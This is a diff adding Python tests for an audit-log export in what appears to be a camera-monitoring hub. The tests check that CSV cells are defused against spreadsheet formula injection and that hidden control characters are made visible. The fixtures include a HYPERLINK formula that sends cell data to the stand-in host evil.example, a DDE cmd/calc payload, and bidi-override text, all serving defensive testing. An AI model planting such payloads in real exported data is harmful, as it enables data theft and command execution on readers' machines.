@@ -5,7 +5,11 @@ from __future__ import annotations
 import csv
 import io
 import json
+import unicodedata
 
+import pytest
+
+from hub.api.audit_log import spreadsheet_cell
 from hub.tables import Role
 from tests.hub_support import HubApi
 from tests.test_hub_api import add_camera
@@ -58,3 +62,58 @@ def test_search_export_and_transparency(hub_api: HubApi):
                         "missing_person": {"requests refused by the hub": 1}}
     [units] = report["by_unit"].values()
     assert units == {"Robbery": {"requests refused by the hub": 3}}
+
+
+HOSTILE = {  # what an attacker with an account can get into entries: a reason, a case number, a user name
+    "reason": '=HYPERLINK("https://evil.example/?"&A1,"click for the case file")',
+    "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "case_number": "-2+3",
+    "object": "+camera:1",
+    "source": "\t=1+1",
+}
+HIDDEN_TEXT = "report \x1b[2J cleared \u202eevil\u202c done"
+
+
+def test_the_csv_export_is_inert_in_a_spreadsheet_and_the_json_export_exact(hub_api: HubApi):
+    from hub import audit
+    from wire import audit as wa
+    from wire import merkle
+
+    hub_api.add_user("audrey", "correct-horse-battery", Role.AUDITOR)
+    auditor = hub_api.login("audrey", "correct-horse-battery")
+    with hub_api.hub.db.session() as session:
+        audit.append(session, action="test.hostile", outcome="success", **HOSTILE)
+        audit.append(session, actor="ana", action="test.hidden", outcome="success", reason=HIDDEN_TEXT,
+                     note="\u202e")
+    with hub_api.client(auditor) as c:
+        exported = c.get("/api/audit/export", params={"action": "test.hostile", "format": "csv"}).text
+        hidden = c.get("/api/audit/export", params={"action": "test.hidden", "format": "csv"}).text
+        as_json = c.get("/api/audit/export", params={"since": "2000-01-01T00:00:00Z", "format": "json"}).json()
+    [row] = list(csv.DictReader(io.StringIO(exported)))
+    assert {name: row[name] for name in HOSTILE} == {
+        "reason": "'" + HOSTILE["reason"], "actor": "'" + HOSTILE["actor"], "case_number": "'-2+3",
+        "object": "'+camera:1", "source": "\\u0009=1+1"}
+    cells = [cell for line in csv.reader(io.StringIO(exported + hidden)) for cell in line]
+    assert all(not cell or cell[0] not in "=+-@\t\r\n\0" for cell in cells)
+    assert all(unicodedata.category(ch) not in ("Cc", "Cf") for cell in cells for ch in cell)
+    [row] = list(csv.DictReader(io.StringIO(hidden)))
+    assert row["reason"] == "report \\u001b[2J cleared \\u202eevil\\u202c done"  # shown, never dropped
+    assert json.loads(row["details"]) == {"note": "\u202e"}  # still JSON, meaning the same
+    assert all(line.startswith('"') for line in exported.splitlines())  # every cell quoted
+    # JSON keeps each entry's exact text: it rebuilds the canonical bytes its leaf hash was made from.
+    hostile = [r for r in as_json if r["action"].startswith("test.")]
+    assert [r["reason"] for r in hostile] == [HOSTILE["reason"], HIDDEN_TEXT]
+    for r in hostile:
+        entry = wa.AuditEntry.model_validate({k: v for k, v in r.items() if k != "leaf_hash"})
+        assert merkle.leaf_hash(entry.canonical()).hex() == r["leaf_hash"]
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("  =1", "'  =1"), ("\uff1d1+2", "'\uff1d1+2"),
+    ("\t=1", "\\u0009=1"), ("\r=1", "\\u000d=1"), ("\n=1", "\\u000a=1"), ("\0=1", "\\u0000=1"),
+    ("a\x1bb", "a\\u001bb"), ("left\u202eright", "left\\u202eright"), ("x\u2066y\u2069", "x\\u2066y\\u2069"),
+    ("zero\u200bwidth", "zero\\u200bwidth"), ("tag\U000e0041", "tag\\U000e0041"), ("line\u2028two", "line\\u2028two"),
+    ("a=1, b=-2", "a=1, b=-2"), ("Évidence, 5 €", "Évidence, 5 €"), (12, "12"), ("", ""),
+])
+def test_a_spreadsheet_cell_starts_with_no_formula_and_shows_every_hidden_character(value, cell: str):
+    assert spreadsheet_cell(value) == cell
